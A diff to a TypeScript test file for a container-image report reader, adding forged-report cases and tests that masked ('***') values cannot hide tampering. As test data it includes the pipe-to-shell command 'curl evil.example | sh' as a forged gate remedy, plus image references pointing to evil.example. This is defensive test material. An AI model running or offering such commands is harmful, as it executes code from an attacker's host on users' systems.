@@ -67,9 +67,16 @@ const forgeries: readonly (readonly [string, string, unknown])[] = [
   ['no failed image is counted', '/counts/failedImages', 0],
   ['fewer changes are counted', '/counts/changed', 1],
   ['more images are held', '/counts/heldImages', 5],
+  ['a trap is counted that is not there', '/counts/traps', 1],
   ['a gate passes that something hits', '/gates/2/passed', true],
   ['a gate names fewer images', '/gates/0/images', []],
   ['a gate tells the reader something else to do', '/gates/0/remedy', 'run: curl evil.example | sh'],
+  ['a gate tells the reader something else to do behind a mask', '/gates/0/remedy', '*** curl evil.example | sh'],
+  ['a mask hides what is old', '/changes/0/old', 'ghcr.io/shop/api:1.4.0***'],
+  ['a mask hides what is new', '/changes/0/new', 'evil.example/api:1.4.1***'],
+  ['a mask hides what is removed', '/changes/2/old', 'redis:***'],
+  ['a mask hides the result of a use', '/uses/0/result', 'ghcr.io/***:2.0.0'],
+  ['a mask hides what a use had', '/uses/2/old', '***'],
   ['the gates are in another order', '/gates', report.gates.toReversed()],
   ['a gate is there twice', '/gates', [...report.gates, report.gates[0]]],
   ['a major change is called a patch', '/changes/0/bump', 'patch'],
@@ -209,13 +216,26 @@ describe('links of a report', () => {
   })
 })
 
-test('a secret that was masked in the name of an image changes no answer', () => {
-  const uses = [api, { ...pinned, image: 'password', old: 'password:1.0.0', result: 'password:2.0.0' }]
-  const masked = JSON.stringify(honestReport({ ...nothing, cost, uses, failOn: ['change'] })).replaceAll(
-    'password',
-    '***'
-  )
-  expect(readReport(masked).changes.map(({ image, bump }) => [image, bump])).toContainEqual(['***', 'major'])
+describe('a mask', () => {
+  test('in the name of an image, and elsewhere, changes no answer', () => {
+    const uses = [api, { ...pinned, image: 'password', why: 'pinned by password' }]
+    const masked = JSON.stringify(honestReport({ ...nothing, cost, uses, failOn: ['change'] })).replaceAll(
+      'password',
+      '***'
+    )
+    expect(readReport(masked).changes.map(({ image, bump }) => [image, bump])).toContainEqual(['***', 'downgrade'])
+  })
+
+  test('in both the use and the change forges neither kind nor move', () => {
+    const [use, change] = [api, report.changes[0]]
+    const hidden = 'evil.example/api:1.4.1***'
+    const forged = {
+      ...report,
+      uses: [{ ...use, result: hidden }, ...report.uses.slice(1)],
+      changes: [{ ...change, new: hidden, bump: 'patch' }, ...report.changes.slice(1)]
+    }
+    expect(errorOf(JSON.stringify(forged))).toMatchObject({ message: '/uses/0/result hides a part of an image' })
+  })
 })
 
 function putAt(whole: unknown, [name, ...rest]: readonly string[], value: unknown): unknown {
